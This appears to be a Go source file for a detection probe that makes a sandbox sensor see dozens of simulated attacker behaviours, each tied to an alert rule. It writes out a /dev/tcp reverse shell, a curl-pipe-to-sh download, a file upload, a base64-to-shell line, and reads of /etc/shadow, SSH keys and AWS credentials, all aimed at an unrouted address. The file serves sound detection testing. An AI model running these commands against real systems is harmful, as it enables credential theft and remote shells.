package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The outside addresses the actions aim at. Both are refused by the kernel
// inside an instance before any packet leaves; they must stay literal
// constants so that no event can point an action anywhere else.
const (
	outside  = "198.18.0.1"      // benchmarking range (RFC 2544), never routed
	metadata = "169.254.169.254" // the cloud metadata service
)

// Bounds of the attempts.
const (
	dialTimeout = 2 * time.Second
	execTimeout = 3 * time.Second
	maxOutput   = 256 // bytes of a command's output kept in its step
)

// action is one suspicious behaviour.
type action struct {
	name string
	rule string // the built-in rule that must raise an alert for it; "" when none does
	run  func(r *recorder, ev event)
}

// actions lists every action. README.md holds the same table with what
// each action does and why it is harmless; main_test.go keeps the two in
// step.
var actions = []action{
	{"environ-self", "environ-read", func(r *recorder, _ event) { r.read("/proc/self/environ") }},
	{"environ-init", "environ-read", func(r *recorder, _ event) { r.open("/proc/1/environ", os.O_RDONLY) }},
	{"shadow", "credential-read", func(r *recorder, _ event) { r.open("/etc/shadow", os.O_RDONLY) }},
	{"aws-credentials", "credential-read", awsCredentials},
	{"ssh-key", "credential-read", func(r *recorder, _ event) { r.open("/root/.ssh/id_rsa", os.O_RDONLY) }},
	{"shell", "shell-spawned", func(r *recorder, _ event) { r.exec("/bin/sh", "-c", "id") }},
	{"tmp-write-exec", "tmp-write-exec", tmpWriteExec},
	{"shm-exec", "exec-from-writable", shmExec},
	{"memfd-exec", "fileless-exec", memfdExec},
	{"reverse-shell", "reverse-shell", func(r *recorder, _ event) {
		r.exec("/bin/sh", "-c", "sh -i >& /dev/tcp/"+outside+"/4444 0>&1")
	}},
	{"connect-then-shell", "reverse-shell", startConnectThenShell},
	{"download-exec", "download-exec", func(r *recorder, _ event) {
		r.exec("/bin/sh", "-c", "curl -fsS http://"+outside+"/x.sh | sh")
	}},
	{"metadata", "metadata-access", func(r *recorder, _ event) { r.dial("tcp", metadata+":80") }},
	{"metadata-udp", "metadata-access", func(r *recorder, _ event) { r.dial("udp", metadata+":53") }},
	{"mining-pool", "mining-pool", func(r *recorder, _ event) { r.dial("tcp", outside+":3333") }},
	{"setuid", "privilege-change", setuid},
	{"capset", "privilege-change", capset},
	{"ptrace", "denied-syscall", ptraceInit},
	{"mount", "denied-syscall", mountTmpfs},
	{"bpf", "denied-syscall", bpfProgLoad},
	{"unshare", "denied-syscall", func(r *recorder, _ event) {
		_, _, e := unix.RawSyscall(unix.SYS_UNSHARE, unix.CLONE_NEWUSER|unix.CLONE_NEWNS, 0, 0)
		r.errno("unshare(CLONE_NEWUSER|CLONE_NEWNS)", e)
	}},
	{"keyctl-burst", "denied-burst", keyctlBurst},
	{"docker-socket", "container-socket", func(r *recorder, _ event) { r.dial("unix", "/var/run/docker.sock") }},
	{"bind-shell", "listener", bindShell},
	{"code-tamper", "sensitive-write", func(r *recorder, _ event) { r.open("/var/task/bootstrap", os.O_WRONLY) }},
	{"network-tool", "network-tool", networkTool},
	{"environ-dirfd", "environ-read", environDirfd},
	{"environ-cwd", "environ-read", environCwd},
	{"shadow-dotdot", "credential-read", func(r *recorder, _ event) { r.open("/etc/../etc/./shadow", os.O_RDONLY) }},
	{"shadow-symlink", "sensitive-link", shadowSymlink},
	{"setuid-file", "setuid-bit", setuidFile},
	{"preload", "loader-hijack", preload},
	{"fork-storm", "process-storm", forkStorm},
	{"decode-exec", "decode-exec", func(r *recorder, _ event) { r.exec("/bin/sh", "-c", "echo ZXhpdCAwCg== | base64 -d | sh") }},
	{"key-sweep", "credential-sweep", func(r *recorder, _ event) {
		r.exec("/usr/bin/find", "/root", "/home", "-maxdepth", "3", "-name", "id_rsa*")
	}},
	{"upload", "exfil-upload", func(r *recorder, _ event) {
		r.exec("/usr/bin/curl", "-sS", "-m", "2", "-T", "/etc/hostname", "http://"+outside+"/up")
	}},
	{"tor-proxy", "anonymity-network", func(r *recorder, _ event) { r.dial("tcp", "127.0.0.1:9050") }},
	{"hidden-dir", "hidden-file", hiddenDir},
	// No built-in rule covers egress to a granted host: the alert is the
	// profile's, once a learned profile never saw the destination.
	{"egress", "", egress},
}

// open opens path with flag and closes it again at once: the open is what
// the sensor must see. It never writes, and never truncates or creates.
func (r *recorder) open(path string, flag int) {
	f, err := os.OpenFile(path, flag, 0)
	if err == nil {
		f.Close()
	}
	r.step(fmt.Sprintf("open %s (%s)", path, flagName(flag)), err)
}

// read opens path and reads up to 4 KiB of it, which it discards: the
// contents never appear in the response.
func (r *recorder) read(path string) {
	f, err := os.Open(path)
	if err != nil {
		r.step("open "+path, err)
		return
	}
	defer f.Close()
	n, err := io.Copy(io.Discard, io.LimitReader(f, 4096))
	r.step(fmt.Sprintf("open and read %s (%d bytes, discarded)", path, n), err)
}

func flagName(flag int) string {
	if flag&(os.O_WRONLY|os.O_RDWR) != 0 {
		return "write"
	}
	return "read"
}

// exec runs a command to its end, at most execTimeout, and records its
// output. The step reads `exec NAME [ARGS]: "OUTPUT"`.
func (r *recorder) exec(name string, args ...string) {
	ctx, cancel := context.WithTimeout(context.Background(), execTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	// A grandchild left holding the output pipe must not hold the
	// invocation past the timeout.
	cmd.WaitDelay = time.Second
	out, err := cmd.CombinedOutput()
	if len(out) > maxOutput {
		out = out[:maxOutput]
	}
	r.step(fmt.Sprintf("exec %s %v: %q", name, args, out), err)
}

// dial connects to addr and hangs up at once, sending nothing.
func (r *recorder) dial(network, addr string) {
	c, err := net.DialTimeout(network, addr, dialTimeout)
	if err == nil {
		c.Close()
	}
	r.step("connect "+network+" "+addr, err)
}

// errno records the outcome of a raw system call.
func (r *recorder) errno(what string, e syscall.Errno) {
	if e != 0 {
		r.step(what, e)
		return
	}
	r.step(what, nil)
}

func awsCredentials(r *recorder, _ event) {
	const root = "/root/.aws/credentials"
	home := os.Getenv("HOME")
	if home == "" {
		r.step("HOME", errors.New("not set: trying /.aws/credentials"))
	}
	if p := home + "/.aws/credentials"; p != root {
		r.open(p, os.O_RDONLY)
	}
	r.open(root, os.O_RDONLY)
}

// tmpWriteExec drops a payload the way droppers do: a copy of true under
// a hidden directory of /tmp, made executable and run. The instance's /tmp
// is its own and goes with it.
func tmpWriteExec(r *recorder, _ event) {
	const dir = "/tmp/.cache-x"
	const payload = dir + "/payload"
	r.step("mkdir "+dir, os.MkdirAll(dir, 0o755))
	src := trueBinary()
	r.step("copy "+src+" to "+payload, copyFile(src, payload, 0o600))
	r.step("chmod 0755 "+payload, os.Chmod(payload, 0o755))
	r.exec(payload)
}

// trueBinary is /usr/bin/true, or /bin/true where there is no usr merge.
func trueBinary() string {
	if _, err := os.Stat("/usr/bin/true"); err == nil {
		return "/usr/bin/true"
	}
	return "/bin/true"
}

func copyFile(src, dst string, perm os.FileMode) error {
	in, err := os.Open(src)
	if err != nil {
		return err
	}
	defer in.Close()
	out, err := os.OpenFile(dst, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, perm)
	if err != nil {
		return err
	}
	if _, err := io.Copy(out, in); err != nil {
		out.Close()
		return err
	}
	return out.Close()
}

// shmExec tries to drop and run a payload in /dev/shm. The sandbox's /dev
// has no shm: both fail, and the failed exec is what the sensor reports.
func shmExec(r *recorder, _ event) {
	const payload = "/dev/shm/payload"
	f, err := os.OpenFile(payload, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o755)
	r.step("create "+payload, err)
	r.exec(payload)
	if err == nil {
		// Created after all (not in moat's sandbox): leave nothing behind.
		f.Close()
		r.step("remove "+payload, os.Remove(payload))
	}
}

// memfdExec copies /usr/bin/true into a memfd and runs it from there
// through /proc/self/fd, the way fileless droppers run a payload that
// never lands on a path.
func memfdExec(r *recorder, _ event) {
	fd, err := unix.MemfdCreate("payload", 0)
	r.step("memfd_create", err)
	if err != nil {
		return
	}
	mem := os.NewFile(uintptr(fd), "memfd:payload")
	defer mem.Close()
	src, err := os.Open(trueBinary())
	r.step("open true", err)
	if err != nil {
		return
	}
	_, err = io.Copy(mem, src)
	src.Close()
	r.step("copy true into the memfd", err)
	ctx, cancel := context.WithTimeout(context.Background(), execTimeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, "/proc/self/fd/3")
	cmd.Args = []string{"payload"}
	cmd.ExtraFiles = []*os.File{mem} // fd 3 in the child
	cmd.WaitDelay = time.Second
	r.step("run the memfd", cmd.Run())
}

// setuid asks for uid 0 and gid 0, which the kernel refuses a process
// without capabilities. The calls are raw on purpose: Go's
// syscall.Setuid and syscall.Setgid (and x/sys/unix's, which call them)
// apply the change to every thread of the process through the runtime's
// AllThreadsSyscall, and the runtime aborts the process should the
// threads' results ever differ. One raw call on one thread is one plain
// setuid, which is what the sensor must report.
func setuid(r *recorder, _ event) {
	_, _, e := unix.RawSyscall(unix.SYS_SETUID, 0, 0, 0)
	r.errno("setuid(0)", e)
	_, _, e = unix.RawSyscall(unix.SYS_SETGID, 0, 0, 0)
	r.errno("setgid(0)", e)
}

// capset asks for CAP_SYS_ADMIN in the effective and permitted sets. The
// kernel refuses raising a capability the thread does not hold. Raw, like
// setuid, so it is one call on one thread.
func capset(r *recorder, _ event) {
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	data[0].Effective = 1 << unix.CAP_SYS_ADMIN
	data[0].Permitted = 1 << unix.CAP_SYS_ADMIN
	_, _, e := unix.RawSyscall(unix.SYS_CAPSET, uintptr(unsafe.Pointer(&hdr)), uintptr(unsafe.Pointer(&data[0])), 0)
	r.errno("capset(CAP_SYS_ADMIN)", e)
}

// ptraceInit tries to attach to pid 1. Seccomp refuses ptrace in the
// sandbox; as root elsewhere the attach would stop the host's init, so
// the action runs only in a process that holds no capabilities.
func ptraceInit(r *recorder, _ event) {
	if err := requireNoCapabilities(); err != nil {
		r.step("ptrace(PTRACE_ATTACH, 1)", err)
		return
	}
	_, _, e := unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_ATTACH, 1, 0, 0, 0, 0)
	r.errno("ptrace(PTRACE_ATTACH, 1)", e)
}

// mountTmpfs tries to mount a tmpfs on /tmp/m. Seccomp refuses mount in
// the sandbox; like ptraceInit it runs only without capabilities, so that
// it can never leave a mount behind elsewhere.
func mountTmpfs(r *recorder, _ event) {
	r.step("mkdir /tmp/m", os.MkdirAll("/tmp/m", 0o755))
	if err := requireNoCapabilities(); err != nil {
		r.step("mount(none, /tmp/m, tmpfs)", err)
		return
	}
	r.step("mount(none, /tmp/m, tmpfs)", unix.Mount("none", "/tmp/m", "tmpfs", 0, ""))
}

// requireNoCapabilities fails when the process holds any effective
// capability, that is when it is not in moat's sandbox (the sandbox drops
// them all).
func requireNoCapabilities() error {
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	if err := unix.Capget(&hdr, &data[0]); err != nil {
		return fmt.Errorf("not attempted: capget: %w", err)
	}
	if data[0].Effective != 0 || data[1].Effective != 0 {
		return fmt.Errorf("not attempted: the process holds capabilities (effective %#x), so it is not in moat's sandbox",
			uint64(data[1].Effective)<<32|uint64(data[0].Effective))
	}
	return nil
}

// bpfProgLoad asks to load a program described by an all-zero attribute
// (no instructions): refused by seccomp, invalid anyway.
func bpfProgLoad(r *recorder, _ event) {
	attr := make([]byte, 128)
	_, _, e := unix.RawSyscall(unix.SYS_BPF, unix.BPF_PROG_LOAD, uintptr(unsafe.Pointer(&attr[0])), uintptr(len(attr)))
	r.errno("bpf(BPF_PROG_LOAD, zeroed attr)", e)
}

// keyctlBurst makes 20 key management calls, alternating keyctl and
// add_key, in well under a second: probing that the sandbox refuses each
// one. Should add_key ever be allowed, it adds an empty key to this
// process's own keyring, which dies with the process.
func keyctlBurst(r *recorder, _ event) {
	typ, _ := unix.BytePtrFromString("user")
	desc, _ := unix.BytePtrFromString("moat-probe")
	for i := range 20 {
		if i%2 == 0 {
			_, _, e := unix.RawSyscall(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, keySpecSession, 0)
			r.errno("keyctl(KEYCTL_GET_KEYRING_ID, session)", e)
			continue
		}
		_, _, e := unix.RawSyscall6(unix.SYS_ADD_KEY, uintptr(unsafe.Pointer(typ)), uintptr(unsafe.Pointer(desc)), 0, 0, keySpecProcess, 0)
		r.errno("add_key(user, moat-probe, process keyring)", e)
	}
}

// Special keyring ids (negative in the kernel ABI) as system call
// arguments.
const (
	keySpecProcess = ^uintptr(1) // KEY_SPEC_PROCESS_KEYRING, -2
	keySpecSession = ^uintptr(2) // KEY_SPEC_SESSION_KEYRING, -3
)

// bindShell listens on a loopback port and closes the socket at once,
// accepting nothing: what a bind shell does first.
func bindShell(r *recorder, _ event) {
	ln, err := net.Listen("tcp", "127.0.0.1:4444")
	if err == nil {
		ln.Close()
	}
	r.step("listen tcp 127.0.0.1:4444", err)
}

// networkTool runs nc the way a script would, by name; when nc is not on
// PATH (the lookup then never reaches execve, so the kernel sees nothing),
// it tries the usual absolute paths, whose failed execs the sensor reports.
func networkTool(r *recorder, _ event) {
	args := []string{"-z", outside, "22"}
	if _, err := exec.LookPath("nc"); err == nil {
		r.exec("nc", args...)
		return
	}
	r.step("look up nc on PATH", exec.ErrNotFound)
	for _, nc := range []string{"/usr/bin/nc", "/bin/nc"} {
		r.exec(nc, args...)
	}
}

// egress sends one GET to the event's URL: a host the test granted, so
// the request goes through, and the alert (if any) is the profile's. It
// contacts that URL only: no proxy from the environment, no redirect
// followed.
func egress(r *recorder, ev event) {
	u, err := url.Parse(ev.URL)
	if err == nil && ((u.Scheme != "http" && u.Scheme != "https") || u.Host == "") {
		err = errors.New("want an http or https URL with a host")
	}
	if ev.URL == "" {
		err = errors.New("no url in the event")
	}
	if err != nil {
		r.step("GET "+ev.URL, err)
		return
	}
	resp, err := httpClient.Get(ev.URL)
	if err != nil {
		r.step("GET "+ev.URL, err)
		return
	}
	defer resp.Body.Close()
	n, err := io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<20))
	r.step(fmt.Sprintf("GET %s: %s, %d bytes", ev.URL, resp.Status, n), err)
}

var httpClient = &http.Client{
	Timeout:       dialTimeout,
	Transport:     &http.Transport{Proxy: nil},
	CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
}
